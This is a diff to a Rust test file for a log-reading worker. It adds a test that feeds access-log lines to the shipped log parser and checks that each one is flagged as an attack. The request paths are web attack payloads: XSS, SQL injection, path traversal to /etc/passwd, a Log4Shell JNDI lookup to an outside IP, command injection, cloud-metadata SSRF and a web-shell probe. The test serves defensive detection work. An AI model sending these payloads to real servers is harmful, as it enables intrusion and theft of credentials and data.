@@ -9,7 +9,10 @@ use std::path::PathBuf;
 use std::process::{Command, Stdio};
 use std::time::{Duration, Instant};
 
-use bartizan_worker::{Batch, Caution, Heard, Kind, Launch, Parser, Position, Reading, Record, Refused, Verdict, Worker, serve};
+use bartizan_worker::{
+    Batch, Caution, Heard, Kind, Launch, LogFormat, LogParser, LogRecord, Parser, Position, Reading, Record, Refused, Verdict, Worker,
+    serve,
+};
 use serde::{Deserialize, Serialize};
 
 /// A parser that lines can kill, in every way there is.
@@ -61,6 +64,12 @@ fn stands_in_for_the_program() {
     let _ = serve(Fragile);
 }
 
+/// Not a test either: the child with the parser that ships.
+#[test]
+fn stands_in_for_the_log_reader() {
+    let _ = serve(LogParser);
+}
+
 /// Not a test either: an agent that is killed. It prints its child's pid and waits.
 #[test]
 fn stands_in_for_an_agent() {
@@ -79,8 +88,12 @@ fn worker() -> Worker<String, Said> {
 }
 
 fn waiting(patience: Duration) -> Worker<String, Said> {
-    let arguments = ["stands_in_for_the_program", "--exact", "--nocapture", "--test-threads=1"].map(Into::into).to_vec();
-    Worker::new(Launch { program: "/proc/self/exe".into(), arguments, patience })
+    Worker::new(launch("stands_in_for_the_program", patience))
+}
+
+fn launch(stand_in: &str, patience: Duration) -> Launch {
+    let arguments = [stand_in, "--exact", "--nocapture", "--test-threads=1"].map(Into::into).to_vec();
+    Launch { program: "/proc/self/exe".into(), arguments, patience }
 }
 
 fn hand(worker: &mut Worker<String, Said>, id: u32, text: &[u8]) -> File {
@@ -309,4 +322,42 @@ fn what_a_hole_left_before_a_line_is_no_part_of_it() {
     let mut worker = worker();
     hand(&mut worker, 1, &[vec![0; 5000], b"one\n\0\0\ntwo\n".to_vec()].concat());
     assert_eq!(words(&read(&mut worker, 1, 0).unwrap()), [(5000, "s1: one"), (5007, "s1: two")]);
+}
+
+#[test]
+fn attacks_on_a_web_server_are_judged_without_rights() {
+    let targets = [
+        "/?q=<script>alert(3)</script>",
+        "/?id=1'+union+select+password+from+users--",
+        "/?id=1+and+sleep(5)",
+        "/?page=../../../../etc/passwd",
+        "/?page=php://filter/convert.base64-encode/resource=x",
+        "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D",
+        "/?name=%7B%7B7*7%7D%7D",
+        "/?host=127.0.0.1;cat+/etc/passwd",
+        "/?url=http://169.254.169.254/latest/meta-data/",
+        "/?x=system('id');",
+        "/?x=require('child_process').exec('id')",
+        "/.env",
+        "/shell.php?cmd=id",
+    ];
+    let lines = targets.map(|target| format!("192.0.2.1 - - [28/Nov/2026:16:26:30 +0000] \"GET {target} HTTP/1.1\" 200 5 \"-\" \"x\"\n"));
+    let mut worker = Worker::<LogFormat, LogRecord>::new(launch("stands_in_for_the_log_reader", Duration::from_secs(10)));
+    let mut file = tempfile::tempfile().unwrap();
+    file.write_all(lines.concat().as_bytes()).unwrap();
+    let again = File::open(format!("/proc/self/fd/{}", file.as_raw_fd())).unwrap();
+    worker.take(1, Kind::File, LogFormat::Access(None), again.into());
+    let reading = Reading { from: Position { offset: 0, within_cut: false }, lines: 100, skip: false, last: false };
+    let batch = worker.read(1, reading).unwrap();
+    let judged: Vec<usize> = batch
+        .records
+        .iter()
+        .map(|at| match &at.record {
+            LogRecord::Request(request) => request.attacks.len(),
+            other => panic!("{other:?}"),
+        })
+        .collect();
+    assert_eq!((judged.len(), worker.deaths()), (targets.len(), 0));
+    let missed: Vec<&str> = targets.iter().zip(&judged).filter(|(_, found)| **found == 0).map(|(target, _)| *target).collect();
+    assert!(missed.is_empty(), "{missed:?}");
 }
